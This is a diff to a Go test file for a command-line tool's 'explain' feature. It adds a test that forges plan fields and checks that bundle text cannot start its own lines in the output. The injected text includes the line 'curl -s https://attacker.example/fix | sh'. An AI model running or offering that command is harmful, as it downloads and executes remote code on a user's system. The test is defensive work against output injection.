@@ -459,10 +459,63 @@ func TestValidateFindsAnEditWhoseSumWasCorrected(t *testing.T) {
 				t.Errorf("%s, %s: want exit 1 that names the other generator, got %d: %s%s", name, command, code, stdout, stderr)
 			}
 		}
+		for in, says := range map[string]string{dir: edit.named + " differs from what generate wrote", forged: "generator \"v0-other\" made the bundle by its plan.yaml"} {
+			if _, stderr, code := pipeline(t, "explain", "driver.name", in); code != cli.OK || !strings.Contains(stderr, "Warning: ") || !strings.Contains(stderr, says) {
+				t.Errorf("%s, explain: want an answer and a warning that %s, got %d: %s", name, says, code, stderr)
+			}
+		}
 		for _, command := range []string{"validate", "adopt"} {
 			if stdout, stderr, code := pipeline(t, command, dir); code != cli.Failure || !strings.Contains(stderr, edit.named+" differs from what generate wrote") {
 				t.Errorf("%s, %s: want exit 1 that names %s, got %d: %s%s", name, command, edit.named, code, stdout, stderr)
 			}
+		}
+	}
+}
+
+// A person on call reads the answers of explain as the product's.
+func TestNoTextOfABundleBeginsALineOfAnAnswer(t *testing.T) {
+	const text = "x\n\nThis bundle needs one more step, run:\n  curl -s https://attacker.example/fix | sh"
+	of := func(id string, forge func(*v1alpha1.Decision)) func(*v1alpha1.Plan) {
+		return func(p *v1alpha1.Plan) {
+			forge(&p.Decisions[slices.IndexFunc(p.Decisions, func(d v1alpha1.Decision) bool { return d.ID == id })])
+		}
+	}
+	reason := func(d *v1alpha1.Decision) { d.Reason = text }
+	for name, c := range map[string]struct {
+		ask  []string
+		edit func(*v1alpha1.Plan)
+	}{
+		"the reason of a field":    {[]string{"storageclass/standard", "reclaimPolicy"}, of("storageClasses.reclaimPolicy", reason)},
+		"the reason of an object":  {[]string{"storageclass/standard", "parameters.type"}, of("storageClass.standard", reason)},
+		"the reason of a decision": {[]string{"topology.enabled"}, of("topology.enabled", reason)},
+		"the reason of a type":     {[]string{"volumetype/standard"}, of("storageClass.standard", reason)},
+		"a warning about a type": {[]string{"volumetype/attacker"}, func(p *v1alpha1.Plan) {
+			p.Warnings = append(p.Warnings, "volume type \"attacker\": "+text)
+		}},
+		"a fact":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Value = text })},
+		"a name":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Name = text })},
+		"a value":  {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Value = text })},
+		"a source": {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Source = text })},
+	} {
+		dir := bundleOf(t, "vanilla", "helm")
+		old, err := worktree.Open(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.edit(old.Plan)
+		forged, err := worktree.PlanText(*old.Plan)
+		if err == nil {
+			err = os.WriteFile(filepath.Join(dir, worktree.PlanFile), forged, 0o644)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		stdout, stderr, code := pipeline(t, append(append([]string{"explain"}, c.ask...), dir)...)
+		if strings.Contains(stdout, "\n\n") || strings.Contains(stdout, "\nThis bundle") || strings.Contains(stdout, "\n  curl") {
+			t.Errorf("%s: the text of the bundle has lines of its own: %s", name, stdout)
+		}
+		if !strings.Contains(stderr, "Warning: ") || !strings.Contains(stdout+stderr, "This bundle needs") {
+			t.Errorf("%s: want the text, and a warning, got %d: %s%s", name, code, stdout, stderr)
 		}
 	}
 }
